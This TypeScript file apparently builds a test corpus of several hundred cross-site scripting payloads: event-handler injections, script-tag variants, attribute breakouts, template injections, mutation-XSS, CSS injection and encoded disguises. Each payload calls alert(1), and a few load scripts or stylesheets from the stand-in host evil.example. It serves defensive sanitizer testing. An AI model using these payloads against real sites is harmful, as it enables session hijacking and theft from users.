/**
 * Texts that try to run a script, or to break out of where they stand, when a page takes them for
 * HTML. Each calls `alert`. None has the double brackets or asterisks that wordings read.
 */
const handlers = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<body onload=alert(1)>',
  '<iframe onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<button autofocus onfocus=alert(1)>x</button>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<link rel=stylesheet href=x onerror=alert(1)>',
  '<link rel=stylesheet href=x onload=alert(1)>',
  '<style onload=alert(1)></style>',
  '<style>@import "x";</style><svg onload=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<div style="animation-name:x" onanimationstart=alert(1)></div>',
  '<p onmouseover=alert(1) style="position:fixed;inset:0">x</p>',
  '<x onclick=alert(1)>x</x>',
  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>',
  '<image src=x onerror=alert(1)>',
  '<svg><image href=x onerror=alert(1) /></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set onbegin=alert(1) attributeName=x>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x"></use></svg>',
];

const scripts = [
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script >alert(1)</script >',
  '<script\t>alert(1)</script\t>',
  '<script/x>alert(1)</script>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>alert(1)</script>',
  '<script>alert`1`</script>',
  '<script>window["al"+"ert"](1)</script>',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>/*</script>*/alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg onload=alert(1)>">',
];

const breakouts = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</p></main></body><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '`onfocus=alert(1) autofocus`',
  '" style="background:url(javascript:alert(1))',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:alert(1)',
  'a"@evil.example><svg/onload=alert(1)>',
  '?subject=x&body="><svg onload=alert(1)>',
  '\u2028<script>alert(1)</script>',
  '\0<script>alert(1)</script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '\u202e<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '\ud800<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '{{7*7}}<svg onload=alert(1)>',
  '{% set x = cycler.__init__ %}{{ x }}',
  '{{ "<script>alert(1)</script>" | safe }}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  '[[alert(1)]]',
  '{{{ "<img src=x onerror=alert(1)>" }}}',
  '<div ng-app>{{$on.constructor("alert(1)")()}}</div>',
  '<p v-html="alert(1)">x</p>',
];

/** The ones written by hand: more than a hundred. */
export const scriptPayloads: readonly string[] = [
  ...handlers,
  ...scripts,
  ...breakouts,
  ...templates,
];

const disguises: readonly ((text: string) => string)[] = [
  (text) => `"'>${text}`,
  (text) => `</p></div>${text}`,
  (text) => text.replace(/alert/g, 'window.alert'),
  (text) => text.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`),
  (text) => `Oak House ${text} -->`,
];

/** At least 500: each by itself, and in several disguises. */
export const disguisedPayloads: readonly string[] = [
  ...new Set([
    ...scriptPayloads,
    ...disguises.flatMap((disguise) => scriptPayloads.map((text) => disguise(text))),
  ]),
];

const elements = ['a', 'b', 'body', 'button', 'div', 'form', 'img', 'input', 'svg', 'video', 'x'];

const events = [
  ...['abort', 'animationend', 'animationstart', 'auxclick', 'beforeinput', 'blur', 'canplay'],
  ...['change', 'click', 'contextmenu', 'copy', 'cut', 'dblclick', 'drag', 'error', 'focus'],
  ...['focusin', 'hashchange', 'input', 'invalid', 'keydown', 'load', 'loadstart', 'message'],
  ...['mouseenter', 'mouseover', 'pageshow', 'paste', 'play', 'pointerdown', 'pointerover'],
  ...['popstate', 'reset', 'resize', 'scroll', 'scrollend', 'select', 'storage', 'submit'],
  ...['toggle', 'touchstart', 'transitionend', 'unload', 'wheel'],
];

/** Every event a browser knows, each on another element. */
const everyEvent = events.map(
  (event, n) => `<${elements[n % elements.length]} on${event}=alert(1) autofocus tabindex=1>`,
);

/** What a reader mends into something else than was written. */
const mended = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p id="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<table><td><form><table></form><script>alert(1)</script>',
  '<select><template><script>alert(1)</script></template></select>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<a href="\u0001java\nscript:alert(1)">x</a>',
  '<title><a id="</title><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<p style="font-family:\'</style><svg onload=alert(1)>\'">',
];

const styles = [
  '<style>*{background:url("javascript:alert(1)")}</style>',
  '<style>@import url(//evil.example/x.css);</style>',
  '<div style="width:expression(alert(1))">',
  '<div style="background:url(//evil.example/x)">',
  '<p style="-moz-binding:url(//evil.example/x#y)">',
  '</style><style>body{display:none}</style>',
  '<link rel=stylesheet href=data:text/css,*{display:none}>',
];

const manyTongues = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>',
  '">><marquee><img src=x onerror=alert(1)></marquee></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
  '\'"()&%<acx><ScRiPt >alert(1)</ScRiPt>',
  '--></script></title></style></textarea><svg onload=alert(1)>',
];

const encodings: readonly ((text: string) => string)[] = [
  (text) => text.replace(/[<>]/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replace(/</g, '\uff1c').replace(/>/g, '\uff1e'),
  (text) => text.replace(/</g, '\u2039').replace(/>/g, '\u203a'),
  (text) => text.replace(/</g, '<\u200b'),
  (text) => encodeURIComponent(text.replace(/[\ud800-\udfff]/g, '')),
];

/** Far more than 500, all different: every family, some of them in other clothes. */
export const manyPayloads: readonly string[] = [
  ...new Set([
    ...scriptPayloads,
    ...everyEvent,
    ...mended,
    ...styles,
    ...manyTongues,
    ...disguisedPayloads,
    ...encodings.flatMap((encode) => [...everyEvent, ...mended].map(encode)),
  ]),
];
